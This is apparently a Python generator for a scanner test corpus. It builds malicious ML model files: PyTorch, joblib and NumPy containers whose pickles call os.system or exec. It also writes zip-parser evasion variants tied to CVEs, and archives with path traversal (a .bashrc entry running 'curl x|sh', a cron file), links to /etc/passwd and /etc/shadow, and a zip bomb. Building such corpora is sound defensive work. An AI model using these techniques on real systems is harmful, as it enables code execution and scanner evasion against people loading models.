"""Malicious pickle-bearing containers: PyTorch (zip and legacy), joblib, NumPy, archives."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zlib
from typing import Any

import _zipw
from _corpus import CMD, Corpus
from _mal_pickles import EXPRESSIONS, PY, SYSTEM
from _pkl import Build, Call, G, NewObj, Raw, Seq, body, dump


def _tensor() -> Call:
    pid = Raw(body(("storage", G("torch", "FloatStorage", "global"), "0", "cpu", 3), 2) + b"Q")
    return Call(G("torch._utils", "_rebuild_tensor_v2", "global"),
                (pid, 0, (3,), (1,), False, Call(G("collections", "OrderedDict", "global"), ())))


def torch_pkl(payload: Any) -> bytes:
    """A state-dict data.pkl ({'w': tensor}) that runs ``payload`` first."""
    return dump(Seq((payload, {"fc.weight": _tensor()})), 2)


def _torch(c: Corpus) -> None:
    evil = torch_pkl(Call(SYSTEM, (CMD,)))
    t = "torch"
    c.mal("malicious/torch/torch-zip-basic/model.pt", _zipw.build(_zipw.torch_members(evil)),
          "torch-zip-basic", t, "PyTorch zip checkpoint whose data.pkl calls os.system")
    for ext in (".bin", ".pth", ".ckpt", ".zip", ".pt", ""):
        name = f"pytorch_model{ext}" if ext else "pytorch_model"
        top = {"": "x", ".bin": "pytorch_model", ".zip": "a b"}.get(ext, "archive")
        c.mal(f"malicious/torch/torch-zip-extension/{name}",
              _zipw.build(_zipw.torch_members(torch_pkl(Call(G("builtins", "exec"), (PY,))),
                                              top=top)),
              "torch-zip-extension", t, f"torch zip saved with extension '{ext or 'none'}' and "
              f"inner folder '{top}'", "CVE-2025-1889")
    for top in ("model.weights", "..", "data"):
        safe = top.replace("/", "_").replace(".", "dot")
        c.mal(f"malicious/torch/torch-zip-inner-path/{safe}.pt",
              _zipw.build(_zipw.torch_members(evil, top=top)), "torch-zip-inner-path", t,
              f"torch zip whose records live under the unusual prefix '{top}/'")
    c.mal("malicious/torch/torch-zip-flag-bits/model.pt",
          _zipw.build(_zipw.torch_members(evil, top="modèle", flags=0x800, local_flags=0)),
          "torch-zip-flag-bits", t, "UTF-8 flag (bit 11) set in the central directory but not "
          "in the local header of a non-ASCII name: Python's zipfile sees a name mismatch, "
          "torch's reader does not", "CVE-2025-1945 class")
    c.mal("malicious/torch/torch-zip-name-mismatch/model.pt",
          _zipw.build(_zipw.torch_members(evil, local_name="archive/dataXpkl")),
          "torch-zip-name-mismatch", t, "local header names data.pkl differently from the "
          "central directory", "CVE-2025-1944")
    c.mal("malicious/torch/torch-zip-bad-crc/model.pt",
          _zipw.build(_zipw.torch_members(evil, crc=0xDEADBEEF)), "torch-zip-bad-crc", t,
          "data.pkl stored with a wrong CRC-32", "CVE-2025-10156")
    c.mal("malicious/torch/torch-zip-prefixed/model.pt",
          _zipw.build(_zipw.torch_members(evil), prefix=b"PK\x07\x08" + b"\0" * 60),
          "torch-zip-prefixed", t, "zip preceded by junk starting with the PK\\x07\\x08 marker",
          "google/saferpickle PR 46")
    dup = _zipw.torch_members(torch_pkl(None))
    dup.append(_zipw.Member("archive/data.pkl", evil))
    c.mal("malicious/torch/torch-zip-duplicate-member/model.pt", _zipw.build(dup),
          "torch-zip-duplicate-member", t, "two central-directory entries named data.pkl: a "
          "clean one first, the malicious one last (torch's reader and zipfile's read-by-name "
          "both take the last; a scanner keeping the first sees a clean model)",
          "zip parser differential")
    c.mal("malicious/torch/torch-zip-deflated/model.pt",
          _zipw.build(_zipw.torch_members(evil, deflate=True)), "torch-zip-deflated", t,
          "data.pkl deflate-compressed (torch writes it stored)")
    ts = [*_zipw.torch_members(torch_pkl(None)),
          _zipw.Member("archive/constants.pkl", dump(Call(SYSTEM, (CMD,)), 2)),
          _zipw.Member("archive/code/__torch__.py", b"def forward(self, x):\n  return x\n")]
    c.mal("malicious/torch/torchscript-constants/model.pt", _zipw.build(ts),
          "torchscript-constants", t, "TorchScript-style archive: clean data.pkl, payload in "
          "constants.pkl")
    other = [*_zipw.torch_members(torch_pkl(None)),
             _zipw.Member("archive/extra/tokenizer.txt", EXPRESSIONS["runpy2"]())]
    c.mal("malicious/torch/zip-member-odd-extension/model.pt", _zipw.build(other),
          "zip-member-odd-extension", t, "clean data.pkl, a pickle payload hidden in a .txt "
          "member", "modelaudit PR 624")
    _legacy(c)


def _legacy_header(sysinfo: Any = None) -> bytes:
    magic = dump(0x1950A86A20F9469CFC6C, 2)
    proto = dump(1001, 2)
    info = sysinfo if sysinfo is not None else {
        "protocol_version": 1001, "little_endian": True,
        "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return magic + proto + dump(info, 2)


def _legacy(c: Corpus) -> None:
    keys = dump(["0"], 2)
    storage = struct.pack("<q", 3) + struct.pack("<3f", 0, 1, 2)
    main = torch_pkl(Call(SYSTEM, (CMD,)))
    c.mal("malicious/torch/torch-legacy-main/model.pt", _legacy_header() + main + keys + storage,
          "torch-legacy-main", "torch", "legacy (pre-1.6, non-zip) torch file, payload in the "
          "main pickle")
    evil_info = Seq((Call(SYSTEM, (CMD,)), {"protocol_version": 1001, "little_endian": True,
                                            "type_sizes": {"short": 2, "int": 4, "long": 4}}))
    c.mal("malicious/torch/torch-legacy-sysinfo/model.bin",
          _legacy_header(evil_info) + torch_pkl(None) + keys + storage, "torch-legacy-sysinfo",
          "torch", "legacy torch file whose third pickle (sys_info) carries the payload")


def _joblib_wrapper_stream() -> bytes:
    """joblib's in-stream array layout: wrapper, BUILD, padding, raw bytes, then a payload."""
    dtype = Build(Call(G("numpy", "dtype"), ("f8", False, True)),
                  (3, "<", None, None, None, -1, -1, 0))
    state = {"subclass": G("numpy", "ndarray"), "shape": (4,), "order": "C", "dtype": dtype,
             "allow_mmap": False, "numpy_array_alignment_bytes": 16}
    wrapper = body(Build(NewObj(G("joblib.numpy_pickle", "NumpyArrayWrapper"), ()), state), 4)
    head = b"\x80\x04" + b"}" + body("w", 4) + wrapper
    pad = 16 - (len(head) + 1) % 16
    arr = struct.pack("<4d", 0.0, 1.0, 2.0, 3.0)
    payload = body("x", 4) + body(Call(SYSTEM, (CMD,)), 4)
    return head + bytes([pad]) + b"\xff" * pad + arr + b"s" + payload + b"s."


def _joblib(c: Corpus) -> None:
    raw = EXPRESSIONS["system4"]()
    c.mal("malicious/joblib/joblib-plain/model.joblib", raw, "joblib-plain", "joblib",
          "joblib file that is a plain malicious pickle")
    comp = {"zlib": zlib.compress(raw, 3), "gzip": gzip.compress(raw, mtime=0),
            "bz2": bz2.compress(raw), "xz": lzma.compress(raw),
            "lzma": lzma.compress(raw, format=lzma.FORMAT_ALONE)}
    for name, data in comp.items():
        c.mal(f"malicious/joblib/joblib-compressed/model.{name}.joblib", data, "joblib-compressed",
              "joblib", f"joblib-style {name}-compressed malicious pickle")
    c.mal("malicious/joblib/joblib-after-array/model.joblib", _joblib_wrapper_stream(),
          "joblib-after-array", "joblib", "payload placed after a joblib in-stream numpy array "
          "(raw array bytes break naive opcode walkers)")


def npy(pickled: bytes, version: int = 1) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (2,), }"
    size = 4 if version >= 2 else 2
    total = 6 + 2 + size + len(header) + 1
    header += b" " * ((64 - total % 64) % 64) + b"\n"
    ln = struct.pack("<I" if size == 4 else "<H", len(header))
    return b"\x93NUMPY" + bytes([version, 0]) + ln + header + pickled


def _numpy(c: Corpus) -> None:
    evil = dump(Call(G("builtins", "exec"), (PY,)), 3)
    for v in (1, 2, 3):
        c.mal(f"malicious/numpy/npy-object-array/v{v}.npy", npy(evil, v), "npy-object-array",
              "numpy", f".npy format {v}.0 object array whose pickle runs exec")
    z = _zipw.build([_zipw.Member("weights.npy", npy_float()),
                     _zipw.Member("arr_1.npy", npy(evil))])
    c.mal("malicious/numpy/npz-object-member/data.npz", z, "npz-object-member", "numpy",
          ".npz with one float array and one pickled object array")
    c.mal("malicious/numpy/npy-disguised/embeddings.bin", npy(EXPRESSIONS["system2"]()),
          "npy-disguised", "numpy", "object-array .npy saved as .bin")


def npy_float() -> bytes:
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }"
    header += b" " * ((64 - (10 + len(header) + 1) % 64) % 64) + b"\n"
    data = struct.pack("<4f", *[0.5] * 4)
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def _tar(entries: list[tarfile.TarInfo | tuple[tarfile.TarInfo, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for e in entries:
            if isinstance(e, tuple):
                e[0].size = len(e[1])
                tf.addfile(e[0], io.BytesIO(e[1]))
            else:
                tf.addfile(e)
    return buf.getvalue()


def _ti(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    t = tarfile.TarInfo(name)
    t.type, t.linkname, t.mtime, t.mode = kind, link, 1_600_000_000, 0o644
    return t


def _archives(c: Corpus, have_7z: bool) -> None:
    evil = EXPRESSIONS["system2"]()
    a = "archive"
    c.mal("malicious/archive/tar-path-traversal/model.tar",
          _tar([(_ti("model/../../../../home/user/.bashrc"), b"curl x|sh\n"),
                (_ti("model/weights.pkl"), evil)]), "tar-path-traversal", a,
          "tar with a ../ member escaping the extraction folder, plus a malicious pickle")
    c.mal("malicious/archive/tar-links/model.tar",
          _tar([_ti("model/config.json", tarfile.SYMTYPE, "/etc/passwd"),
                _ti("model/hard.bin", tarfile.LNKTYPE, "/etc/shadow"),
                (_ti("model/data.pkl"), evil)]), "tar-links", a,
          "tar with a symlink and a hardlink out of the tree, plus a malicious pickle")
    c.mal("malicious/archive/zip-path-traversal/model.zip",
          _zipw.build([_zipw.Member("../../../tmp/evil.pth", b"import os\n"),
                       _zipw.Member("/etc/cron.d/evil", b"* * * * * root id\n"),
                       _zipw.Member("model/data.pkl", evil)]), "zip-path-traversal", a,
          "zip with ../ and absolute member names, plus a malicious pickle")
    c.mal("malicious/archive/zip-symlink/model.zip",
          _zipw.build([_zipw.Member("model/weights.bin", b"/etc/passwd", mode=0o120777),
                       _zipw.Member("model/data.pkl", evil)]), "zip-symlink", a,
          "zip with a symlink member (unix mode 0120777), plus a malicious pickle")
    c.mal("malicious/archive/zip-bomb/model.zip", _zipw.zip_bomb(1 << 30), "zip-bomb", a,
          "zip with one 1 GiB member of zeros deflated ~1000:1")
    inner_zip = _zipw.build(_zipw.torch_members(torch_pkl(Call(SYSTEM, (CMD,)))))
    tgz = gzip.compress(_tar([(_ti("release/model.pt"), inner_zip)]), mtime=0)
    c.mal("malicious/archive/nested-archive/release.tar.gz", tgz, "nested-archive", a,
          "tar.gz holding a torch zip holding a malicious data.pkl")
    c.mal("malicious/archive/gzip-pickle/model.pkl.gz", gzip.compress(evil, mtime=0),
          "gzip-pickle", a, "gzip-compressed malicious pickle")
    if have_7z:
        import py7zr

        buf = io.BytesIO()
        with py7zr.SevenZipFile(buf, "w") as z:
            z.writestr(evil, "model/data.pkl")
        c.mal("malicious/archive/7z-pickle/model.7z", buf.getvalue(), "7z-pickle", a,
              "7z archive holding a malicious pickle")


def build(c: Corpus, have_7z: bool) -> None:
    """Write every malicious container technique."""
    _torch(c)
    _joblib(c)
    _numpy(c)
    _archives(c, have_7z)
